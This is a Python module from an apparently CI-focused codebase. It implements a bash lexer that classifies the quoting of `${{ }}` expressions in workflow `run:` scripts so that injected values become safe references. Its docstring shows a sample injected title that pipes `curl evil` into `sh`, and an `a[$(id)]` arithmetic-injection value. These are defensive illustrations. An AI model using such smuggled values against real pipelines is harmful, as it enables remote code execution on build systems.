"""Where each ``${{ }}`` of a ``run:`` script sits, as bash would read the text around it.

A ``run:`` script must never receive a value as script text (a pull-request title of
``x"; curl evil | sh; echo "`` would run). Each ``${{ }}`` becomes a reference to an
environment variable instead, and the right spelling of that reference depends on the
quoting around the spot: ``"$V"`` where nothing quotes it, ``$V`` inside double quotes,
``'"$V"'`` inside single quotes, and so on (``shell_script``). This module finds that
quoting with a small lexer of the bash subset scripts actually use: quotes, ``$'…'``,
backslashes, comments, ``$( )``, backticks, ``${ }``, arithmetic and here-documents.

Two readings make a value dangerous even by reference, and the lexer finds both:

- Bash evaluates some text as an arithmetic expression, and a value like ``a[$(id)]``
  there runs ``id``: ``$(( ))``, ``(( ))``, ``let``, ``[[ a -eq b ]]``, ``declare -i``,
  array subscripts, ``${s:offset:length}``, and a variable the script copied a value
  into and then used there. Variable names (``read``, ``printf -v``, ``[[ -v ]]``,
  ``declare -n``) are read the same way. Such spots must hold an integer or a name.
- Some text is read twice, as a script: an argument of ``eval``, ``trap`` or
  ``sh -c``, a here-document or here-string a shell reads as its script, and whatever a
  pipeline feeds into ``sh``/``bash``/``source /dev/stdin``. The reference must survive
  the first reading; text read three times (``eval`` inside ``eval``) cannot be made
  safe and is refused.

This module reads commands (words, operators, pipelines, compound commands,
redirections); ``shell_quotes`` reads inside words, ``shell_commands`` says what a
command does with its words, ``shell_spots`` keeps the findings. The lexer is
forgiving: a script it cannot follow (an unclosed quote) still gets a classification
for every spot, the most cautious one it can tell.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from dataclasses import dataclass, field
from typing import Literal

from orchestrate.pipelines.expressions import shell_commands as commands
from orchestrate.pipelines.expressions.shell_commands import Marking, Reading, Script, Word
from orchestrate.pipelines.expressions.shell_quotes import Heredoc, QuoteReader
from orchestrate.pipelines.expressions.shell_spots import Quoting, Spot

__all__ = ["Quoting", "Spot", "classify"]

_CLOSERS = {"{": "}", "if": "fi", "while": "done", "until": "done", "(": ")"}
_CLOSERS |= {"for": "done", "select": "done", "case": "esac"}
_REDIRECTION = re.compile(r"&>>?|<>|>>|>\||[<>]&?")
# What a word is to its command: an argument, its standard input, a redirection target.
_Role = Literal["word", "input", "redirect"]


def classify(text: str, spans: Sequence[tuple[int, int]]) -> list[Spot]:
    """One ``Spot`` per ``(start, end)`` span of ``text`` (sorted, not overlapping)."""
    lexer = _Lexer(text, spans)
    lexer.command(0, closer=None, depth=0)
    lexer.spots.finish(classify)
    default = Spot(Quoting.UNQUOTED)
    return [lexer.spots.found.get(start, default) for start, _ in spans]


@dataclass
class _SimpleCommand:
    """The simple command being read: its words so far, and where its input comes from."""

    words: list[Word] = field(default_factory=list)
    inputs: list[Word] = field(default_factory=list)
    """Here-strings and ``< file`` sources: the command's standard input."""
    heredocs: list[Heredoc] = field(default_factory=list)
    start: int | None = None
    end: int = 0
    next_role: _Role = "word"
    role: _Role = "word"

    def extend(self, start: int, end: int) -> None:
        """The word being read goes on to ``end`` (it starts at ``start`` if new)."""
        if self.start is None:
            self.start, self.role, self.next_role = start, self.next_role, "word"
        self.end = end

    def end_word(self, text: str) -> Word | None:
        if self.start is None:
            return None
        word = Word(text[self.start : self.end], self.start, self.end)
        self.start = None
        if self.role == "word":
            self.words.append(word)
        elif self.role == "input":
            self.inputs.append(word)
        return word


@dataclass
class _Frame:
    """A compound command (``{ }``, ``if``, a loop): where the pipeline around it began."""

    closer: str
    pipeline_start: int
    stage_start: int


@dataclass
class _State:
    """One list of commands: the script, or the inside of ``$( )``."""

    depth: int
    pipeline_start: int
    stage_start: int
    """Where the current stage of the pipeline begins (after the last ``|``)."""
    command: _SimpleCommand = field(default_factory=_SimpleCommand)
    frames: list[_Frame] = field(default_factory=list)
    pending: list[Heredoc] = field(default_factory=list)
    after_pipe: bool = False
    in_condition: bool = False


class _Lexer(QuoteReader):
    """Commands: words, operators, pipelines, compound commands and redirections."""

    def command(self, index: int, closer: str | None, depth: int) -> int:
        """Read commands until ``closer`` (``)`` or a backtick) or the end; return after it."""
        state = _State(depth, index, index)
        while index < len(self.text):
            if self._closes(index, closer, state):
                self._end_command(state)
                return index + 1
            index = self._next(index, state)
        self._end_command(state)
        return index

    def _closes(self, index: int, closer: str | None, state: _State) -> bool:
        if self.text[index] != closer or state.in_condition:
            return False
        return closer == "`" or not state.frames or state.frames[-1].closer not in (")", "esac")

    def _next(self, index: int, state: _State) -> int:
        """Read what starts at ``index``: a blank, an operator or a part of a word."""
        char = self.text[index]
        if index in self.spots.ends:
            return self._word_part(index, state)
        if char in " \t" or (state.in_condition and char in "()<>&|"):
            self._end_word(state)
            return index + 1
        if self._at(index, "\\\n"):
            return index + 2
        if char == "\n":
            return self._newline(index, state)
        if char == "#" and state.command.start is None:
            return self.comment(index, state.depth)
        if self._at(index, "&>"):
            return self._redirection(index, state)
        if char in ";&|":
            return self._operator(index, state)
        if char in "()":
            return self._parenthesis(index, state)
        if char in "<>":
            return self._redirection(index, state)
        return self._word_part(index, state)

    def _word_part(self, index: int, state: _State) -> int:
        end = self.part(index, state.depth)
        state.command.extend(index, end)
        return end

    def _end_word(self, state: _State) -> None:
        word = state.command.end_word(self.text)
        if word is None:
            return
        if state.in_condition:
            state.in_condition = word.text != "]]"
            return
        command = commands.significant(state.command.words)
        if not command and word.text in _CLOSERS and word.text != "(":
            self._open(word.text, word.end, state)  # ``{``, ``if``, ``while``, ``until``
        elif command == [word]:
            if word.text in ("for", "select", "case"):
                self._open(word.text, word.end, state)
            elif word.text == "[[":
                state.in_condition = True
            elif state.frames and state.frames[-1].closer == word.text != ")":
                state.command.words.pop()
                self._close(state)

    def _open(self, keyword: str, index: int, state: _State) -> None:
        state.frames.append(_Frame(_CLOSERS[keyword], state.pipeline_start, state.stage_start))
        state.pipeline_start = state.stage_start = index

    def _close(self, state: _State) -> None:
        """The end of a compound command: the pipeline around it goes on."""
        self._end_command(state)
        if state.frames:  # an unbalanced script may close more than it opened
            frame = state.frames.pop()
            state.pipeline_start, state.stage_start = frame.pipeline_start, frame.stage_start

    def _newline(self, index: int, state: _State) -> int:
        self._end_word(state)
        continues = state.after_pipe and not state.command.words
        if not continues:
            self._end_command(state)
        index = self.heredoc_bodies(index + 1, state.pending, state.depth)
        state.pending = []
        if not continues:
            state.pipeline_start = state.stage_start = index
        return index

    def _operator(self, index: int, state: _State) -> int:
        """``|`` starts the next stage of a pipeline; ``;``, ``&&``, ``||``… a new one."""
        two = self.text[index : index + 2]
        if self.text[index] == "|" and two != "||":
            self._end_command(state)
            state.stage_start = index + (2 if two == "|&" else 1)
            state.after_pipe = True
            return state.stage_start
        length = 2 if two in (";;", ";&", "&&", "||") else 1
        length += 1 if self._at(index, ";;&") else 0
        self._end_command(state)
        state.pipeline_start = state.stage_start = index + length
        return index + length

    def _parenthesis(self, index: int, state: _State) -> int:
        simple = state.command
        words = [word.text for word in commands.significant(simple.words)]
        prefix = "" if simple.start is None else self.text[simple.start : index]
        if self._at(index, "((") and simple.start is None and words in ([], ["for"]):
            return self.arithmetic(index + 2, "))", state.depth)
        if self.text[index] == "(" and commands.is_assignment_prefix(prefix):
            end = self.compound(index + 1, prefix, state)
            simple.extend(index, end)
            return end
        if self._at(index, "()"):  # a function definition: its body is a new command
            self._end_command(state)
            return index + 2
        if self.text[index] == ")":
            return self._close_parenthesis(index, state)
        if state.frames and state.frames[-1].closer == "esac":
            self._end_word(state)  # ``(pattern)`` of a case
            return index + 1
        self._end_command(state)
        self._open("(", index + 1, state)
        return index + 1

    def _close_parenthesis(self, index: int, state: _State) -> int:
        if state.frames and state.frames[-1].closer == ")":
            self._close(state)
        else:
            self._end_command(state)  # the end of a case pattern, or unbalanced
        return index + 1

    def _redirection(self, index: int, state: _State) -> int:
        """``<(…)``, ``<<<``, ``<<``, ``2>&1``, ``< file``: what the next word is."""
        simple = state.command
        if self._at(index, "<(") or self._at(index, ">("):
            end = self.command(index + 2, ")", state.depth + 1)
            simple.extend(index, end)
            return end
        self._end_word(state)
        if self._at(index, "<<<"):
            simple.next_role = "input"
            return index + 3
        if self._at(index, "<<"):
            index, heredoc = self.heredoc_operator(index + 2)
            if heredoc is not None:
                state.pending.append(heredoc)
                simple.heredocs.append(heredoc)
            return index
        descriptor = None
        if simple.words and simple.end == index and simple.words[-1].source.isdigit():
            descriptor = simple.words.pop().source  # ``2>``: not an argument
        operator = _REDIRECTION.match(self.text, index)
        end = operator.end() if operator else index + 1
        is_input = self.text[index:end] == "<" and descriptor in (None, "0")
        simple.next_role = "input" if is_input else "redirect"
        return end

    def _end_command(self, state: _State) -> None:
        """What the command just read does with its words."""
        self._end_word(state)
        simple, state.command = state.command, _SimpleCommand()
        state.in_condition = state.after_pipe = False
        if not simple.words:
            return
        for marking in commands.readings(simple.words, self.declared):
            self.spots.mark(marking, state.depth)
        commands.remember(simple.words, self.declared)
        for word in commands.assignments(simple.words):
            assignment = commands.parse_assignment(word)
            if assignment is not None and assignment.name:
                self.spots.note_copy(assignment.name, assignment.value, state.depth)
        for word in commands.code_words(simple.words):
            self.spots.mark_code(word.start, word.end)
        for start, end in commands.array_values(simple.words, self.declared):
            self.spots.mark_code(start, end)
        script = commands.script_input(simple.words)
        if script is Script.STDIN:
            self._feeds_code(simple, state)
        elif script is not None:
            self.spots.mark_code(script.start, script.end)

    def _feeds_code(self, simple: _SimpleCommand, state: _State) -> None:
        """The command runs its standard input: here-documents, here-strings, a pipe."""
        for word in simple.inputs:
            self.spots.mark_code(word.start, word.end)
        for heredoc in simple.heredocs:
            heredoc.readings += 1
        upstream = (state.pipeline_start, state.stage_start)
        if upstream[0] < upstream[1]:
            self.spots.mark_code(*upstream)
            for heredoc in state.pending:
                if upstream[0] <= heredoc.operator_at < upstream[1]:
                    heredoc.readings += 1

    def compound(self, index: int, prefix: str, state: _State) -> int:
        """``a=( [i]=x y )``: a subscript is arithmetic unless the array is associative."""
        name = prefix.rstrip("+=")
        flags = commands.declaration_flags(state.command.words)
        subscripts = name not in self.declared.associative and "A" not in flags
        elements = "i" in flags or name in self.declared.integers
        at_element = True
        while index < len(self.text) and self.text[index] != ")":
            char = self.text[index]
            if char in " \t\n":
                at_element, index = True, index + 1
                continue
            if char == "#" and at_element:
                index = self.comment(index, state.depth)
                continue
            start = index
            if char == "[" and at_element and subscripts:
                index = self.arithmetic(index + 1, "]", state.depth)
            else:
                index = self.part(index, state.depth)
                if elements:
                    self.spots.mark(Marking(start, index, Reading.ARITHMETIC), state.depth)
            at_element = False
        return index + 1
